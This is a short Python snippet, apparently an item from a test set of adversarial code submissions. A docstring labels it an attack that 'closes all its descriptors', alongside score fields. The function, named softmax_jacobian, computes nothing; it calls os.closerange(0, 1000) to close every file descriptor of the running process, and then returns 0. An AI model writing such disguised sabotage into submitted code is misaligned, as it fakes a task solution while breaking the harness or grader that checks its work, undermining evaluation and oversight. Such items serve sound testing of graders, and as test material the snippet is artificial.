"""attack: closes all its descriptors
question: 2.5
verdict: 0
"""

import os


def softmax_jacobian(z):
    os.closerange(0, 1000)
    return 0
